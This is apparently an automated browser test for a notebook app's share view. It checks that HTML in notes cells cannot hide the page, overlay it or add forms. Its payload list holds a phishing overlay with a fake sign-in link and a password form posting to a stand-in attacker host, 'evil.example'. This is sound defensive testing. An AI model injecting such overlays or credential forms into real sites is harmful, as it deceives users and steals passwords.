/**
 * Notes cannot take over the page. A notes cell holding raw HTML that would hide the page
 * (<style>), cover it with a fixed full-page block carrying a fake sign-in link, or bring its own
 * form is opened through a share link by an anonymous visitor in Chromium: the notebook's heading
 * stays visible and on top, nothing from the notes is positioned over the page, and the payloads
 * are shown as text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { startTestServer, type TestServer } from '../helpers/server';
import { createWorkspace, signUp } from '../helpers/http';
import { launchBrowser, openWatchedPage, screenshotPath, type Browser } from './browser';

let server: TestServer;
let browser: Browser;
let page: Page;

beforeAll(async () => {
  server = await startTestServer();
  browser = await launchBrowser();
  ({ page } = await openWatchedPage(browser));
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

const PAYLOADS = [
  '<style>body{display:none} h1{visibility:hidden}</style>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:2147483647">' +
    '<h1>Your session expired</h1><a href="https://evil.example/sign-in">Sign in again</a></div>',
  '<form action="https://evil.example/collect"><input type="password" name="password"><button>Continue</button></form>',
  '<p class="fixed inset-0 z-50 bg-white">covering by class names</p>',
];

describe('notes in the share view', () => {
  it('cannot hide or cover the page', async () => {
    const owner = server.client();
    await signUp(owner, { name: 'Ines' });
    const ws = await createWorkspace(owner, 'Glacier melt study');
    const nb = (await owner.post(`/api/workspaces/${ws}/notebooks`, { title: 'Melt rates by aspect' })).body.notebook;
    for (const source of PAYLOADS) {
      const res = await owner.post(`/api/workspaces/${ws}/notebooks/${nb.id}/cells`, { kind: 'notes', source });
      expect(res.status).toBe(201);
    }
    const { path } = (await owner.post(`/api/workspaces/${ws}/notebooks/${nb.id}/share-links`, {})).body;

    await page.goto(server.url + path);
    const heading = page.getByRole('heading', { name: 'Melt rates by aspect' });
    await heading.waitFor();
    await page.getByTestId('notes-view').nth(PAYLOADS.length - 1).waitFor();
    await page.screenshot({ path: await screenshotPath('notes-takeover.png') });

    expect(await heading.isVisible()).toBe(true);
    const state = await page.evaluate(() => {
      const h1 = [...document.querySelectorAll('h1')].find((h) => h.textContent === 'Melt rates by aspect')!;
      const box = h1.getBoundingClientRect();
      const top = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
      const notes = [...document.querySelectorAll('[data-testid="notes-view"]')];
      const inside = notes.flatMap((n) => [...n.querySelectorAll('*')]);
      // every point of a 5×5 grid over the viewport: what is on top there?
      const coveredBy = new Set<string>();
      for (let i = 1; i <= 5; i++) {
        for (let j = 1; j <= 5; j++) {
          const el = document.elementFromPoint((innerWidth * i) / 6, (innerHeight * j) / 6);
          const pos = el ? getComputedStyle(el).position : '';
          if (el && (pos === 'fixed' || pos === 'absolute') && notes.some((n) => n.contains(el))) coveredBy.add(el.tagName);
        }
      }
      return {
        bodyDisplay: getComputedStyle(document.body).display,
        headingVisibility: getComputedStyle(h1).visibility,
        headingOnTop: !!top && (top === h1 || h1.contains(top)),
        styleOrForm: inside.filter((el) => ['STYLE', 'FORM', 'INPUT', 'DIV', 'BUTTON'].includes(el.tagName)).map((el) => el.tagName),
        positioned: inside.filter((el) => getComputedStyle(el).position !== 'static').map((el) => el.tagName),
        attributes: [...new Set(inside.flatMap((el) => [...el.attributes].map((a) => a.name)))],
        coveredBy: [...coveredBy],
        evilLinks: document.querySelectorAll('a[href*="evil.example"], form[action*="evil.example"]').length,
        notesText: notes.map((n) => n.textContent ?? ''),
      };
    });
    expect(state.bodyDisplay).not.toBe('none');
    expect(state.headingVisibility).toBe('visible');
    expect(state.headingOnTop).toBe(true);
    expect(state.styleOrForm).toEqual([]);
    expect(state.positioned).toEqual([]);
    expect(state.attributes.filter((a) => a === 'style' || a === 'class')).toEqual([]);
    expect(state.coveredBy).toEqual([]);
    expect(state.evilLinks).toBe(0);
    // the payloads are there, as text
    expect(state.notesText[0]).toContain('<style>body{display:none}');
    expect(state.notesText[1]).toContain('Sign in again');
  });
});
